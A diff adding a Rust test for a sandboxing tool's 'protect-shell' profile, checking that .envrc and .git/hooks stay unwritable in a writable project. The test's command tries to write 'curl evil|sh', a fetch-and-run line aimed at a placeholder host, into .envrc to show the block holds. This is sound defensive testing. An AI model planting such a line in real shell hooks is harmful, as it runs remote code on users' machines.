@@ -717,3 +717,23 @@ fn capable_machine_gets_every_layer_without_warning() {
         assert_eq!(r.stderr, "", "{args:?}: {r:?}");
     }
 }
+
+/// `--profile` applies a preset to a plain run (before the CLI flags): the
+/// protect-shell block keeps `.envrc` and `.git/hooks` unwritable even in a
+/// writable project where they do not exist yet; nothing is left behind.
+#[test]
+fn profile_applies_a_preset_to_a_plain_run() {
+    let d = scratch();
+    let p = real(d.path());
+    let r = sh_in(
+        &p,
+        &["--profile", "protect-shell", "--allow-write=."],
+        "echo 'curl evil|sh' > .envrc 2>/dev/null && echo ENVRC-WRITTEN; \
+         mkdir -p .git/hooks/x 2>/dev/null && echo HOOKS-WRITTEN; echo ok > ok.txt && cat ok.txt",
+    );
+    assert_eq!(r.stdout, "ok\n", "{r:?}");
+    assert!(!p.join(".envrc").exists() && !p.join(".git").exists(), "placeholder left behind");
+    let r = run_in(&p, &["--profile", "no-such-profile-zb", "--", "true"]);
+    assert_eq!(r.code, 2, "{r:?}");
+    assert!(r.stderr.contains("no-such-profile-zb"), "{r:?}");
+}
